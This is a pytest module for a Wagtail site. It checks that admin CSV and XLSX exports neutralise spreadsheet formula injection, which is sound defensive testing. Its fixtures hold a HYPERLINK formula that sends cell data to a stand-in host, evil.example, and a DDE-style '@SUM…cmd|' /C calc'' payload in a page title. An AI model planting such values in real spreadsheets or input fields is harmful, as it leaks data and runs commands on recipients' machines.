"""Wagtail's own list exports (``?export=csv|xlsx``) go through the formula-safe writer (issue 9.4).

Wagtail writes cells as they are: a theme named ``=HYPERLINK(…)`` or a page
titled ``@SUM(…)`` would run as a formula in the spreadsheet of whoever opens
the export. Every viewset with ``list_export``, every ModelAdmin and the site
history report must come out through ``logis.exports``.
"""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets as wagtail_viewsets
from wagtail.admin.viewsets.base import ViewSet
from wagtail.models import Page, PageLogEntry

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def admin_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("admin.export", "a@example.org", "mot-de-passe-42"))
    client.get("/admin/")  # Wagtail registers its viewsets when the admin URLs load
    return client


def _export_urls():
    """Every admin listing that offers ``?export=``: viewsets, ModelAdmin and the reports."""
    from logis.wagtail_hooks import PLUGIN_MODELADMINS

    urls = []
    for viewset in wagtail_viewsets.viewsets:
        if getattr(viewset, "list_export", None) in (None, [], ViewSet.UNDEFINED) or not hasattr(viewset, "model"):
            continue
        urls.append(reverse(viewset.get_url_name(viewset.get_urlpatterns()[0].name)))
    for modeladmins in PLUGIN_MODELADMINS.values():
        urls += [m.url_helper.index_url for m in modeladmins if m.list_export]
    reports = ("site_history", "locked_pages", "aging_pages", "workflow", "workflow_tasks")
    return urls + [reverse(f"wagtailadmin_reports:{name}") for name in reports]


def test_every_registered_list_export_is_written_by_the_formula_safe_writer(admin_client):
    urls = _export_urls()
    assert len(urls) >= 7  # themes, glossary and the reports at least
    for url in urls:
        response = admin_client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        text = b"".join(response.streaming_content).decode("utf-8")
        # the platform's writer: UTF-8 BOM, semicolons, a dated file name
        assert text.startswith("\ufeff") and ";" in text.splitlines()[0], url
        assert response["Content-Disposition"].endswith('.csv"'), url
        xlsx = admin_client.get(url, {"export": "xlsx"})
        assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK", url


def test_theme_export_neutralises_formulas_in_csv_and_xlsx(admin_client):
    from content.models import Theme

    Theme.objects.create(name=HOSTILE, slug="piege", description="+33 1 23 45 67 89")
    url = _theme_url()
    csv_text = b"".join(admin_client.get(url, {"export": "csv"}).streaming_content).decode("utf-8")
    assert f"'{HOSTILE}" in csv_text.replace('""', '"')
    assert "'+33 1 23 45 67 89" in csv_text
    sheet = load_workbook(io.BytesIO(admin_client.get(url, {"export": "xlsx"}).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == f"'{HOSTILE}" and cell.data_type == "s" for cell in cells)
    assert not any(str(cell.value).startswith(("=", "+", "@")) for cell in cells)


def test_site_history_report_neutralises_a_hostile_page_title(admin_client):
    root = Page.objects.get(depth=1)
    page = root.add_child(instance=Page(title="@SUM(1+1)*cmd|' /C calc'!A0", slug="piege"))
    PageLogEntry.objects.log_action(page, "wagtail.create")
    response = admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8")
    assert "'@SUM(1+1)" in text
    assert not any(cell.startswith("@") for line in text.splitlines() for cell in line.split(";"))


def _theme_url():
    from content.models import Theme

    viewset = next(v for v in wagtail_viewsets.viewsets if getattr(v, "model", None) is Theme)
    return reverse(viewset.get_url_name("list"))
